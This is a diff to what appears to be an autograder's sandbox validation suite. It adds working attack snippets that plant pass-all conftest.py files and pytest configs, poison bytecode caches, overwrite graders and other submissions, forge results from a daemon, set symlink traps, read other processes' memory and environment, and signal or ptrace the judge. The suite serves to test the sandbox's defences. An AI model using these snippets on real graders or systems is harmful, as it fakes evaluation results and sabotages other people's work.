@@ -15,6 +15,46 @@ from autograder.validate import Attack
 # sabotage: a leak costs the submission its GetDummies points, which the corpus would notice
 LEAK = "\n    GetDummies = None   # found a leak: lose points so that the corpus notices\n"
 
+# a walk of the file system under @ATTACK_ROOT@ (and of sys.path's folders that lie under it): the folders
+# for which keep(folder, files) holds
+WALK = ("import os, time as _time\n"
+        "def _folders(keep):\n"
+        "    found, _until = [], _time.monotonic() + 1.5\n"
+        "    for _root, _dirs, _files in os.walk('@ATTACK_ROOT@'):\n"
+        "        _dirs[:] = [d for d in _dirs if os.path.join(_root, d) not in\n"
+        "                    ('/proc', '/sys', '/dev', '/usr', '/lib', '/lib64', '/bin', '/sbin', '/etc', '/boot')]\n"
+        "        if keep(_root, _files):\n"
+        "            found.append(_root)\n"
+        "        if _time.monotonic() > _until:\n"
+        "            break\n"
+        "    return found\n")
+# a conftest.py that passes every test, and every configuration file pytest reads, loading it as a plugin
+PLANT = ("_HOOK = 'import pytest\\n@pytest.hookimpl(tryfirst=True)\\ndef pytest_runtest_call(item):\\n"
+         "    item.runtest = lambda: None\\n'\n"
+         "def _plant(folder):\n"
+         "    for _name, _text in (('conftest.py', _HOOK), ('planted_plugin.py', _HOOK),\n"
+         "                         ('pytest.ini', '[pytest]\\naddopts = -p planted_plugin\\n'),\n"
+         "                         ('tox.ini', '[pytest]\\naddopts = -p planted_plugin\\n'),\n"
+         "                         ('setup.cfg', '[tool:pytest]\\naddopts = -p planted_plugin\\n'),\n"
+         "                         ('pyproject.toml', '[tool.pytest.ini_options]\\naddopts = \"-p planted_plugin\"\\n')):\n"
+         "        try:\n"
+         "            with open(os.path.join(folder, _name), 'a') as _out:\n"
+         "                _out.write(_text)\n"
+         "        except OSError:\n"
+         "            pass\n"
+         "    _cache = os.path.join(folder, '__pycache__')\n"
+         "    try:\n"
+         "        os.makedirs(_cache, exist_ok=True)\n"
+         "        for _name in os.listdir(folder):\n"
+         "            if _name.endswith('.py'):\n"
+         "                import py_compile\n"
+         "                open(os.path.join(folder, '_evil.py'), 'w').write(_HOOK)\n"
+         "                py_compile.compile(os.path.join(folder, '_evil.py'),\n"
+         "                                   cfile=os.path.join(_cache, _name[:-3] + '.cpython-311.pyc'),\n"
+         "                                   invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)\n"
+         "    except OSError:\n"
+         "        pass\n")
+
 ATTACKS = [
     # ------------------------------------------------------------------ ending the process
     Attack("sys-exit-top", "sys.exit() in a cell of its own",
@@ -79,9 +119,9 @@ ATTACKS = [
                                                   "        def __getattr__(self, name):\n            return lambda *a, **k: self\n"
                                                   "    return Liar()\n")],
            honest=[("getdummies", "    return features\n", "    return None\n")]),
-    Attack("fake-results", "writes a full-marks results.json everywhere it can",
+    Attack("fake-results", "writes a full-marks results.json and gradebook.csv wherever it can",
            [("+", None, "import json, os\nfake = json.dumps({'score': 50, 'tests': []})\n"
-                        "for folder in ['.', '..', '/tmp', os.path.expanduser('~'), '/work/main/graded', '/root']:\n"
+                        "for folder in ['.', '..', os.path.expanduser('~'), '@ATTACK_ROOT@']:\n"
                         "    for name in ['results.json', 'gradebook.csv']:\n"
                         "        try:\n            open(os.path.join(folder, name), 'w').write(fake)\n"
                         "        except OSError:\n            pass\n")], base="blank"),
@@ -112,15 +152,20 @@ ATTACKS = [
              "'/work/*/tests/*.py', '/*/autograder/graders/*/*.py'] for p in _glob.glob(pattern)]\n\n\n"
              "def GetDummies("),
             ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
-    Attack("read-graders-from-memory", "looks for the graders in its own memory and in other processes",
+    Attack("read-graders-from-memory", "looks for the graders in its own memory, and reads other processes' "
+                                       "memory maps, memory and environment",
            [("getdummies", "def GetDummies(", "import sys as _sys, os as _os\n_own = {'autograder', 'autograder.protocol', 'autograder.worker', "
-             "'autograder.sandbox', 'autograder.limits', 'autograder.forkserver', 'autograder.dynamo'}\n"
+             "'autograder.sandbox', 'autograder.limits', 'autograder.forkserver', 'autograder.dynamo',"
+             "'autograder.landlock', 'autograder.seccomp'}\n"
              "_found = [m for m in _sys.modules if m.startswith('autograder') and m not in _own]\n"
              "for _pid in [p for p in _os.listdir('/proc') if p.isdigit() and int(p) != _os.getpid()]:\n"
-             "    try:\n        if b'pytest' in open(f'/proc/{_pid}/cmdline', 'rb').read() or "
-             "b'autograder.judge' in open(f'/proc/{_pid}/cmdline', 'rb').read():\n"
-             "            _found.append(_pid)\n        open(f'/proc/{_pid}/mem', 'rb').read(1)\n"
-             "        _found.append('mem:' + _pid)\n    except (OSError, ValueError):\n        pass\n\n\n"
+             "    try:\n        _maps = open(f'/proc/{_pid}/maps').read().split()\n"
+             "        if _maps:       # (a kernel thread has no memory to show)\n            _found.append('maps:' + _pid)\n"
+             "        with open(f'/proc/{_pid}/mem', 'rb') as _mem:\n"
+             "            _mem.seek(int(_maps[0].split('-')[0], 16))\n            _mem.read(16)\n"
+             "        _found.append('mem:' + _pid)\n    except (OSError, ValueError, IndexError):\n        pass\n"
+             "    try:\n        open(f'/proc/{_pid}/environ', 'rb').read()\n        _found.append('environ:' + _pid)\n"
+             "    except OSError:\n        pass\n\n\n"
              "def GetDummies("),
             ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
     Attack("network", "opens sockets to the outside and to the machine's own addresses",
@@ -138,9 +183,73 @@ ATTACKS = [
            [("getdummies", "def GetDummies(", "import os as _os, shutil as _shutil\n_found = []\n"
              "for _entry in _os.listdir('.'):\n    _shutil.rmtree(_entry, ignore_errors=True) if _os.path.isdir(_entry) "
              "else _os.remove(_entry)\n"
-             "for _folder in ['..', '/', '/work/main', '/work/main/graded', '/root', '/var/tmp']:\n"
+             "for _folder in ['..', '/', '@ATTACK_ROOT@', '/root', '/var/tmp']:\n"
              "    _probe = _os.path.join(_folder, '.course-attack-probe')\n    try:\n        open(_probe, 'w').close()\n"
              "        _os.remove(_probe)\n        _found.append(_folder)\n    except OSError:\n        pass\n\n\n"
              "def GetDummies("),
             ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
+    # ------------------------------------------------------------------ changing what the judge reads later
+    # (each walks @ATTACK_ROOT@: "/" in `course validate`, the test's own folder in the project's tests)
+    Attack("plant-pytest-config", "plants a conftest.py that passes every test, and pytest.ini, tox.ini, setup.cfg and "
+                                  "pyproject.toml that load it, in every folder pytest could look in",
+           [("+", None, WALK + PLANT + "for _folder in set(_folders(lambda d, fs: True)) | {'.', '..'}:\n"
+                        "    _plant(_folder)\n")], base="blank"),
+    Attack("rewrite-graders", "overwrites every test_*.py it finds (on disk and on sys.path) with tests that pass",
+           [("+", None, WALK + "for _folder in _folders(lambda d, fs: any(f.startswith('test_') for f in fs)):\n"
+                        "    for _name in os.listdir(_folder):\n"
+                        "        if _name.startswith('test_') and _name.endswith('.py'):\n"
+                        "            try:\n"
+                        "                open(os.path.join(_folder, _name), 'w').write("
+                        "'import pytest\\n@pytest.mark.points(50, blank=\"GetDummies\")\\ndef test_all():\\n    pass\\n')\n"
+                        "            except OSError:\n                pass\n")], base="blank"),
+    Attack("daemon-rewrites-results", "double-forks a daemon that outlives its worker, then rewrites every "
+                                      "results.json and plants a conftest.py wherever it can",
+           [("+", None, WALK + PLANT + "import json, time\n"
+                        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+                        "        for _round in range(60):\n            time.sleep(0.5)\n"
+                        "            for _folder in _folders(lambda d, fs: 'results.json' in fs or 'gradebook.csv' in fs):\n"
+                        "                for _name in ('results.json', 'gradebook.csv'):\n"
+                        "                    try:\n"
+                        "                        open(os.path.join(_folder, _name), 'w').write(json.dumps({'score': 999}))\n"
+                        "                    except OSError:\n                        pass\n"
+                        "            for _folder in _folders(lambda d, fs: any(f.startswith('test_') for f in fs)):\n"
+                        "                _plant(_folder)\n"
+                        "    os._exit(0)\n"
+                        "os.wait()\n")], base="blank"),
+    Attack("write-other-submissions", "overwrites every other notebook it finds, and drops files into their folders "
+                                      "and into the results",
+           [("+", None, WALK + "_mine = os.path.realpath('.')\n"
+                        "for _folder in _folders(lambda d, fs: any(f.endswith('.ipynb') or f == 'results.json' for f in fs)):\n"
+                        "    for _name in os.listdir(_folder):\n"
+                        "        if _name.endswith('.ipynb') or _name == 'results.json':\n"
+                        "            try:\n                open(os.path.join(_folder, _name), 'w').write('{}')\n"
+                        "            except OSError:\n                pass\n"
+                        "    try:\n        open(os.path.join(_folder, 'planted.txt'), 'w').write('x')\n"
+                        "    except OSError:\n        pass\n")], base="blank"),
+    Attack("symlink-traps", "leaves symlinks where the judge writes (results, gradebook, the next submission's folder) "
+                            "pointing at the graders",
+           [("+", None, WALK + "_graders = [os.path.join(d, f) for d in _folders(lambda d, fs: 'conftest.py' in fs) "
+                        "for f in os.listdir(d) if f.startswith('test_')]\n"
+                        "for _folder in _folders(lambda d, fs: True):\n"
+                        "    for _name in ('results.json', 'gradebook.csv', 'executed.ipynb', 'results.key'):\n"
+                        "        try:\n            os.symlink(_graders[0] if _graders else '/etc/passwd', "
+                        "os.path.join(_folder, _name + '.trap'))\n"
+                        "            os.replace(os.path.join(_folder, _name + '.trap'), os.path.join(_folder, _name))\n"
+                        "        except (OSError, IndexError):\n            pass\n")], base="blank"),
+    Attack("find-graders-everywhere", "walks the file system and sys.path for any grader, solution or signing key",
+           [("getdummies", "def GetDummies(", WALK + "import sys as _sys\n" +
+             "_found = [d for d in _folders(lambda d, fs: any(f.startswith('test_') and f.endswith('.py') or "
+             "f == 'results.key' or f.endswith('.ipynb') and 'solution' in d for f in fs))]\n"
+             "for _entry in _sys.path:\n    for _part in ('autograder/graders', 'autograder/mutants', 'solutions'):\n"
+             "        try:\n            if os.listdir(os.path.join(_entry or '.', _part)):\n"
+             "                _found.append(os.path.join(_entry, _part))\n"
+             "        except OSError:\n            pass\n\n\n"
+             "def GetDummies("),
+            ("getdummies", "    ### BEGIN SOLUTION\n", "    ### BEGIN SOLUTION\n    if _found:\n        return None\n")]),
+    Attack("signal-and-trace-the-judge", "signals every process it can name and tries to ptrace its parent",
+           [("+", None, "import ctypes, os, signal\nlibc = ctypes.CDLL(None, use_errno=True)\n"
+                        "for pid in [os.getppid()] + [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n"
+                        "    libc.ptrace(16, pid, 0, 0)   # PTRACE_ATTACH\n"
+                        "    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):\n"
+                        "        try:\n            os.kill(pid, sig)\n        except OSError:\n            pass\n")]),
 ]
